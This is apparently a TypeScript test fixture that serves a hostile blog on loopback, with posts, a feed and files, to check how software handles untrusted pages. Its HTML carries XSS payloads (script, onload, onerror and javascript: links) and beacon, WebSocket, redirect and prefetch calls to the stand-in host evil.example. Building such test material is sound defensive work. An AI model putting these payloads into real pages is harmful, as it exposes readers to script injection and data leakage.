import { startServer, type TestServer } from '../servers.ts'
import { XSS_STRINGS } from '../xss-strings.ts'
import { HOSTILE_FILES, HOSTILE_STYLES } from './hostile-files.ts'

/** What a page says besides, to reach the browser before its reader does. */
const HEAD = `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">
<link rel="preload" as="image" href="https://evil.example/preload.gif"><link rel="prerender" href="https://evil.example/">
<link rel="icon" href="https://evil.example/icon.png"><link rel="manifest" href="https://evil.example/manifest">
<script>alert(1); new WebSocket('wss://evil.example'); navigator.sendBeacon('https://evil.example/'); location = 'https://evil.example'</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>`

/** One post of so many has the sheet with every hostile style: it is the same file for all, and asks for 30 others. */
const POSTS_PER_SHEET = 10

/** A blog on loopback whose every post has one of the strings in every place there is for it. */
export async function serveHostileBlog(): Promise<TestServer> {
  const posts = XSS_STRINGS.map((text, n) => ({
    path: `/2024/${String(1 + (n % 12)).padStart(2, '0')}/post-${n}/`,
    date: new Date(Date.UTC(2024, n % 12, 1 + (n % 27))).toISOString(),
    text,
    n,
  }))
  const html =
    (body: string) =>
    (_: unknown, response: { setHeader(name: string, value: string): { end(body: string): void } }) => {
      response.setHeader('content-type', 'text/html; charset=utf-8').end(body)
    }
  const typed =
    (type: string, body: string) =>
    (_: unknown, response: { setHeader(name: string, value: string): { end(body: string): void } }) => {
      response.setHeader('content-type', type).end(body)
    }
  const list = posts.map(({ path, text }) => `<li><a href="${path}">${escaped(text)}</a></li>`).join('')
  const title = XSS_STRINGS.slice(0, 3).join(' ')
  const home = `<html lang="en"><head><title>${escaped(title)}</title><meta name="description" content="${escaped(XSS_STRINGS.slice(10, 14).join(' '))}">
<link rel="alternate" type="application/rss+xml" title="${escaped(title)}" href="/feed.xml"></head><body><h1>${escaped(title)}</h1><ul>${list}</ul></body></html>`
  const paths = Object.fromEntries([
    ...posts.map(post => [post.path, html(postPage(post))] as const),
    ...HOSTILE_FILES.map(({ name, type, body }) => [`/files/${name}`, typed(type, body)] as const),
    ['/', html(home)],
    ['/style.css', typed('text/css', HOSTILE_STYLES.join('\n'))],
  ])
  const server = await startServer({
    ...paths,
    '/feed.xml': (request, response) =>
      typed('application/rss+xml', feed(posts, `http://${request.headers.host}`, title))(request, response),
  })
  return server
}

interface HostilePost {
  readonly path: string
  readonly date: string
  readonly text: string
  readonly n: number
}

function postPage({ text, date, n }: HostilePost): string {
  const file = HOSTILE_FILES[n % HOSTILE_FILES.length]?.name ?? ''
  const style = HOSTILE_STYLES[n % HOSTILE_STYLES.length] ?? ''
  const sheet = n % POSTS_PER_SHEET === 0 ? '<link rel="stylesheet" href="/style.css">' : ''
  const shown = escaped(text)
  const name = encodeURIComponent(`${text}.svg`)
  return `<!doctype html><html lang="${n % 3 === 0 ? shown : 'en'}"><head><title>${shown}</title>${HEAD}<style>${style}</style>
${sheet}<link rel="alternate" type="application/rss+xml" href="/feed.xml"></head>
<body onload="alert(1)" background="https://evil.example/background.gif"><article class="post"><h1 class="entry-title">${shown}</h1>
<p class="byline"><a class="author" rel="author" href="javascript:alert(1)">${shown}</a> <time datetime="${date}">${date.slice(0, 10)}</time></p>
<div class="entry-content" style="${escaped(style)}" onclick="alert(1)"><p>The words of post number ${n}, of which there are enough to be taken for an article by whoever reads it.</p>
<p><img src="/files/${file}" alt="${shown}" title="${shown}" onerror="alert(1)"><img src="/files/${name}" alt="${shown}"></p>
<p><a href="https://example.org/?q=${encodeURIComponent(text)}" title="${shown}" onmouseover="alert(1)">${shown}</a>
<a href="/files/${file}">a file</a> and more words of the post, so that it is long enough to be one, in two paragraphs.</p>${text}</div>
<p class="tags"><a rel="tag" href="/tag/${n}/">${shown}</a></p></article>
<ol class="comment-list"><li class="comment" id="comment-${n}"><cite class="fn"><a href="javascript:alert(1)">${shown}</a></cite>
<time datetime="${date}">${date.slice(0, 10)}</time><div class="comment-content"><p>${shown}</p>${text}</div></li></ol></body></html>`
}

function feed(posts: readonly HostilePost[], origin: string, title: string): string {
  const items = posts.map(
    ({
      path,
      date,
      text,
      n,
    }) => `<item><title><![CDATA[${text.replaceAll(']]>', ']]&gt;')}]]></title><link>${origin}${path}</link>
<dc:creator>${escaped(text)}</dc:creator><category>${escaped(text)}</category><pubDate>${new Date(date).toUTCString()}</pubDate>
${n % 2 === 0 ? '' : `<content:encoded>${escaped(`<p>Words of the feed on post ${n}, which are many enough to be kept.</p>${text}`)}</content:encoded>`}</item>`,
  )
  return `<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
<title>${escaped(title)}</title><link>${origin}/</link><description>${escaped(title)}</description>${items.join('')}</channel></rss>`
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')
}
